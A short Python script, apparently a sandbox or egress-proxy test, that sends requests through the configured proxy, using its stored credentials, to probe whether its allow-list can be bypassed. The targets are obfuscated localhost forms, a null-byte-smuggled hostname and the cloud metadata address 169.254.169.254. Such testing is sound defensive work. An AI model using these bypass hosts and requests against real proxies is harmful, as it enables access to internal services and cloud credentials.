"""Classes 24, 26. Asks the proxy for what its list does not name, in every dress.

A breach: the machine's own service is reached.
"""

import base64
import os
import socket
from contextlib import suppress
from urllib.parse import urlsplit

proxy = urlsplit(os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or "")
proof = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
port = os.environ["AIM_TCP"]
HOSTS = ("127.0.0.1", "localhost", "[::1]", "0x7f.1", "2130706433", "0177.0.0.1", "127.1",
         "[::ffff:127.0.0.1]", "allowed.invalid\0.x", "localhost.", "0.0.0.0", "allowed.invalid",
         "[64:ff9b::7f00:1]", "169.254.169.254", *os.environ["AIM_HOSTS"].split())  # fmt: skip
print("proxy", proxy.hostname, proxy.port)
for host in HOSTS if proxy.hostname else ():
    for line in (f"CONNECT {host}:{port}", f"GET http://{host}:{port}/"):
        with suppress(OSError), socket.create_connection((proxy.hostname, proxy.port), 1) as one:
            head = f"{line} HTTP/1.1\r\nProxy-Authorization: Basic {proof}\r\n\r\n"
            one.sendall(head.encode())
            print(line.replace("\0", "NUL"), one.recv(100).split(b"\r\n")[0])
